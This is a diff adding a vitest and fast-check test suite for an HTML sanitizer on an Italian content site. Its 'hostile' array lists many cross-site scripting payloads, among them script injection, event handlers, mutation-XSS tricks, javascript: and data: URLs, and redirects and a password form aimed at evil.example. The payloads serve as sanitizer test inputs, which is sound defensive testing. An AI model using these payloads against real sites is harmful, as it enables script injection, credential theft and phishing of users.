@@ -1,0 +1,142 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { plainLine, safeHtml } from "./safe-html";
+
+const own = { hosts: ["www.loggia.example"], base: "https://cms.loggia.example" };
+const safe = (html: string) => safeHtml(html, own);
+
+const allowed = new Set(
+  "h2 h3 h4 p br hr blockquote pre ul ol li dl dt dd a strong b em i u s small sub sup abbr code table caption thead tbody tfoot tr th td".split(
+    " ",
+  ),
+);
+const attributes = new Set(["href", "rel", "title", "start", "colspan", "rowspan", "scope", "id"]);
+
+/** What no browser can read otherwise: known tags with known attributes in double quotes, and text in which nothing opens a tag. */
+function expectHarmless(html: string) {
+  const text = html.replace(
+    /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g,
+    (_, tag: string, inside: string) => {
+      expect(allowed).toContain(tag);
+      for (const [, name = "", value = ""] of inside.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
+        expect(attributes).toContain(name);
+        if (name === "href") expect(value).toMatch(/^(#testo-|\/(?![/\\])|https?:\/\/|mailto:|tel:)/);
+        if (name === "id") expect(value).toMatch(/^testo-[\w-]*$/);
+      }
+      return "";
+    },
+  );
+  expect(text).not.toMatch(/[<>]/);
+}
+
+const hostile = [
+  "<script>alert(1)</script>",
+  "<ScRiPt src=//evil.example/x.js></sCrIpT >",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  '<img src=x onerror="alert(1)">',
+  "<img src='x'onerror=alert(1)//",
+  '<svg onload="alert(1)"><script>alert(2)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
+  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;avascript&colon;alert(1)">x</a>',
+  '<a href=" data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="https://www.loggia.example@evil.example/">x</a>',
+  '<a href="/x" onclick="alert(1)" style="color:red" target="_blank">x</a>',
+  '<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><input name="password"><button>Accedi</button></form>',
+  "<template><script>alert(1)</script></template>",
+  "<textarea></textarea><script>alert(1)</script>",
+  "<xmp><img src=x onerror=alert(1)></xmp>",
+  "<plaintext><script>alert(1)</script>",
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<?php echo 1 ?><script>alert(1)</script>",
+  '<h2 id="main" name="cookie">x</h2><p id="top" class="notice">x</p>',
+  "<p/onclick=alert(1)>x",
+  '<a href="/x"><a href="/y">x</a></a>',
+  "<details open ontoggle=alert(1)>x</details>",
+  '<video><source onerror="alert(1)"></video>',
+  "<td><tr></table><li></ul></p></div></body></html>",
+  "<p title='`onmouseover=alert(1)`'>x</p>",
+  "<p>\u0000<scr\u0000ipt>alert(1)</script>",
+  `${"<blockquote>".repeat(500)}x`,
+];
+
+describe("an editor's HTML", () => {
+  // spec §7: HTML of the content system is made safe: no script, style, handler, frame or link that runs <- app/cms/mapping/safe-html.ts
+  it.each(hostile)("nothing runs, loads or leads astray: %#", async (html) => {
+    expectHarmless(await safe(`<p>prima</p>${html}<p>dopo</p>`));
+  });
+
+  it("any mixture of such pieces is harmless, and stays what it is when made safe again", async () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...hostile),
+      fc.constantFrom("<", ">", '"', "'", "&lt;", "&#60;", "<p", "<a href=", "</", "<!--", "-->", "x", " "),
+      fc.string({ maxLength: 6 }),
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
+        const once = await safe(pieces.join(""));
+        expectHarmless(once);
+        expectHarmless(await safe(once));
+      }),
+    );
+  });
+
+  it("keeps what is text and structure", async () => {
+    const html = "<h2>Costi</h2><p>Da <strong>5,90 €</strong> &amp; più<br />a casa</p><ul><li>Sì</li></ul>";
+    expect(await safe(html)).toBe(html);
+    expect(await safe('<table><tr><th scope="row">IVA</th><td colspan="2">22%</td></tr></table>')).toBe(
+      '<table><tr><th scope="row">IVA</th><td colspan="2">22%</td></tr></table>',
+    );
+  });
+
+  it("text within mark-up that is not ours stays, what was for machines goes", async () => {
+    expect(await safe("<div class='wp-block'><span style='color:red'>rosso</span></div>")).toBe("rosso");
+    expect(await safe("a<script>b</script><style>c</style><textarea>d</textarea>e")).toBe("ae");
+  });
+
+  it("headings stand below the page's own", async () => {
+    expect(await safe("<h1>Uno</h1><h5>Cinque</h5>")).toBe("<h2>Uno</h2><h4>Cinque</h4>");
+  });
+
+  it("another site is told nothing of us, a path of ours is one", async () => {
+    expect(await safe('<a href="https://altro.example/">x</a>')).toBe(
+      '<a href="https://altro.example/" rel="noopener noreferrer">x</a>',
+    );
+    expect(await safe('<a href="https://www.loggia.example/faq" rel="opener" target="_blank">x</a>')).toBe(
+      '<a href="/faq">x</a>',
+    );
+  });
+
+  it("a link that leads nowhere is its text, an empty one is nothing", async () => {
+    expect(await safe('<a href="javascript:alert(1)">premi</a>')).toBe("premi");
+    expect(await safe('<a href="/faq"> </a><h2></h2>')).toBe("");
+  });
+
+  it("places within the text are reached, and never taken for one of the page's", async () => {
+    expect(await safe('<h2 id="main">x</h2><a href="#main">y</a>')).toBe(
+      '<h2 id="testo-main">x</h2><a href="#testo-main">y</a>',
+    );
+  });
+
+  it("what is longer than any page is refused", async () => {
+    await expect(safe("x".repeat(300_001))).rejects.toThrow();
+  });
+});
+
+it("plain text has no tags and no entities", async () => {
+  expect(await plainLine("<p>L&#8217;olio &amp; il &lt;pane&gt;</p><p>di <b>ieri</b></p>")).toBe(
+    "L’olio & il <pane> di ieri",
+  );
+  expect(await plainLine("<script>x</script>a &amp;lt; b")).toBe("a &lt; b");
+});
